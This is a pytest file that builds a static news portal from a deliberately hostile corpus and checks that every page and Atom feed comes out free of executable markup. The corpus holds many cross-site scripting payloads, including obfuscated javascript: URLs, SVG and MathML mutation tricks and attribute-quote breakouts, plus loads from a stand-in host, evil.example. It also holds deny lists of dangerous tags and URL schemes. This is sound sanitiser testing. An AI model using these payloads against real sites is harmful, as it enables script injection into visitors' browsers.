"""A hostile test corpus built into a whole site: no executable markup survives on any page or in any feed."""

from __future__ import annotations

import copy
import json
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from urllib.parse import urlsplit

from bs4 import BeautifulSoup

from conftest import parse, write_project
from portal.build import build

# Written to attack the sanitiser, the templates and the feed: scripts, event handlers, script
# URLs in every spelling, SVG and MathML with script, frames, forms, styles that hide or move
# text, malformed and nested-quote attributes, and Markdown's own ways to make links and attributes.
CORPUS = r"""
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<script>/* unclosed

</script>

<img src="images/pic.png" onerror="alert(1)" onload=alert(2)>
<img src="images/pic.png" srcset="javascript:alert(1) 1x">
<a href="javascript:alert(1)">a</a> <a href="JaVaScRiPt:alert(1)">b</a> <a href=" javascript:alert(1)">c</a>
<a href="jav&#x09;ascript:alert(1)">d</a> <a href="&#106;avascript:alert(1)">e</a> <a href="java&#0000;script:x">f</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">g</a> <a href="vbscript:msgbox(1)">h</a>
<a href="#" onclick="alert(1)" onmouseover=alert(1)>i</a>

[md link](javascript:alert(1)) [md link 2](<javascript:alert(1)>) <javascript:alert(1)>
[ref link][evil]

[evil]: javascript:alert(1)

![md image](javascript:alert(1))

<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>
<frameset><frame src="javascript:alert(1)"></frameset>
<object data="x.swf"></object><embed src="x.swf"><applet code="x"></applet>
<svg onload="alert(1)"><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>
<math><mtext><table><mglyph><style><img src="images/pic.png" onerror=alert(1)></style></mglyph></table></mtext></math>
<form action="https://evil.example"><input name="q" autofocus onfocus=alert(1)><button formaction="javascript:alert(1)">go</button></form>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<link rel="stylesheet" href="https://evil.example/x.css">
<style>body { display: none }</style>
<p style="display:none">hidden by style</p>
<p class="skip-link">moved off the screen by the site's own class</p>
<div hidden>hidden attribute</div>
<details open ontoggle=alert(1)><summary>s</summary>x</details>
<div title="a"b" onclick="alert(1)">malformed quotes</div>
<div title='x" onmouseover="alert(1)'>nested quotes</div>
<div title="x' onmouseover='alert(1)">nested quotes 2</div>
<noscript><p title="</noscript><img src=images/pic.png onerror=alert(1)>"></noscript>
<template><script>alert(1)</script></template>
<textarea><script>alert(1)</script></textarea>
<xmp><script>alert(1)</script></xmp>
<!--<script>alert(1)</script>-->
<!-- --!><script>alert(1)</script> -->
<b><i>unclosed tags
</div></div></main></body><script>alert(1)</script>

Paragraph with attributes{: onclick="alert(1)" style="display:none" class="skip-link" }

## Heading {: onmouseover="alert(1)" }

| a | b |
|---|---|
| <script>alert(1)</script> | <img src="images/pic.png" onerror=alert(1)> |
"""
FRONT = {
    "title": "</script><script>alert('title')</script>",
    "summary": '"><img src=x onerror=alert(1)>',
    "author": "</p><script>alert(1)</script>",
    "image_alt": '" onerror="alert(1)',
}
EXECUTABLE_TAGS = {"script", "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math", "form",
                   "input", "button", "textarea", "style", "base", "noscript", "template", "xmp", "animate"}
URL_ATTRIBUTES = {"href", "src", "srcset", "action", "formaction", "data", "xlink:href", "poster", "background"}


def hostile_file(lang: str) -> str:
    meta = "\n".join(f"{key}: {json.dumps(value)}" for key, value in FRONT.items())
    return (f'---\n{meta}\ndate: 2024-01-19\ntags: ["<b onmouseover=alert(1)>x</b>", "con", "index"]\n'
            f"image: pic.png\n---\n{CORPUS}")


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory) -> Path:
    files = {f"content/announcements/2024-01-19-hostile.{lang}.md": hostile_file(lang) for lang in ("vi", "en", "ar")}
    files["content/images/pic.png"] = b"\x89PNG generated test picture"
    root = write_project(tmp_path_factory.mktemp("hostile") / "project", files)
    build(root, root / "site", clock="2024-02-01T00:00+07:00")
    return root / "site"


def own_asset(url: str) -> bool:
    return bool(url) and not urlsplit(url).scheme and not url.startswith("//") and "assets/" in url


def assert_nothing_executable(soup: BeautifulSoup, where: str, in_page: bool) -> None:
    for element in soup.find_all(True):
        if element.name == "script" and in_page:
            # Only the portal's own scripts from its assets, and structured data that is valid JSON.
            if element.get("type") == "application/ld+json":
                json.loads(element.string)
            else:
                assert own_asset(element.get("src", "")) and not (element.string or "").strip(), f"{where}: {element}"
            assert not element.find_parent("main"), where
            continue
        if element.name in ("meta", "link", "noscript") and in_page and element.find_parent("head"):
            assert element.get("http-equiv") in (None, "Content-Security-Policy"), where
            assert element.name != "noscript" or all(own_asset(c.get("href", "")) for c in element.find_all(True))
            continue
        if element.name == "noscript" and in_page and not element.find_parent("article"):
            continue  # the portal's own message for browsers without JavaScript; its content is checked too
        search = element if element.name == "form" else element.find_parent("form")
        if in_page and search is not None and search.get("role") == "search" and not search.find_parent("article"):
            # The search page's own form, sending its query to a page of this site.
            assert not urlsplit(search.get("action", "")).scheme and element.name != "script", where
            element = copy.copy(element)
            element.name = "div"
        assert element.name not in EXECUTABLE_TAGS | {"meta", "link"}, f"{where}: <{element.name}>"
        for attribute, value in element.attrs.items():
            assert not attribute.lower().startswith("on"), f"{where}: {element.name} {attribute}"
            assert attribute.lower() not in ("style", "srcdoc", "hidden", "formaction"), f"{where}: {attribute}"
            if attribute.lower() in URL_ATTRIBUTES:
                plain = "".join(ch for ch in str(value) if ch.isprintable() and not ch.isspace()).lower()
                assert not plain.startswith(("javascript:", "data:", "vbscript:")), f"{where}: {attribute}={value}"


def test_no_page_carries_executable_markup(hostile_site):
    pages = sorted(hostile_site.rglob("*.html"))
    assert len(pages) > 20
    for path in pages:
        assert_nothing_executable(parse(path), str(path.relative_to(hostile_site)), in_page=True)


@pytest.mark.parametrize("lang", ["", "en/", "ar/"])
def test_article_shows_the_hostile_text_as_text(hostile_site, lang):
    page = parse(hostile_site / lang / "news/hostile.html")
    assert page.h1.get_text() == FRONT["title"]
    assert page.select_one(".lead").get_text() == FRONT["summary"]
    assert FRONT["author"] in page.select_one(".announcement .meta").get_text()
    assert page.select_one("img.lead-image")["alt"] == FRONT["image_alt"]
    assert page.title.get_text().startswith(FRONT["title"])
    prose = page.select_one(".prose")
    assert "unclosed tags" in prose.get_text() and "malformed quotes" in prose.get_text()
    # Stray closing tags in the article cannot close the page's own elements.
    assert page.select_one("main footer") is None and page.select_one("footer.site-footer").find_parent("body")
    for element in prose.find_all(class_=True):
        assert set(element["class"]) <= {"footnote", "footnote-ref", "footnote-backref", "toc", "chart", "tag"}


@pytest.mark.parametrize("lang", ["", "en/", "ar/"])
def test_feed_carries_nothing_executable(hostile_site, lang):
    feed = ET.parse(hostile_site / lang / "news/feed.xml").getroot()
    atom = "{http://www.w3.org/2005/Atom}"
    (entry,) = [e for e in feed.findall(atom + "entry") if e.findtext(atom + "title") == FRONT["title"]]
    assert entry.findtext(atom + "title") == FRONT["title"]
    for element in entry:
        assert len(element) == 0 or element.tag == atom + "author"  # text only: no markup smuggled in as XML
    content = BeautifulSoup(entry.findtext(atom + "content"), "html.parser")
    assert_nothing_executable(content, f"{lang}news/feed.xml", in_page=False)


def test_hostile_tags_get_safe_file_names(hostile_site):
    names = sorted(p.name for p in (hostile_site / "news/tags").iterdir())
    assert "index.html" not in names and "con.html" not in names
    assert all(name.endswith(".html") and name[:-5].replace("-", "").isalnum() for name in names)


@pytest.mark.parametrize("lang", ["", "en/", "ar/"])
def test_what_survives_is_still_valid_html_pictures_and_links(hostile_site, lang):
    prose = parse(hostile_site / lang / "news/hostile.html").select_one(".prose")
    for image in prose.find_all("img"):
        assert image.get("src") and image.has_attr("alt"), image  # HTML requires both
    for link in prose.find_all("a", href=True):
        assert not any(ord(c) < 0x20 or c in "\x7f\ufffd" for c in link["href"]), link
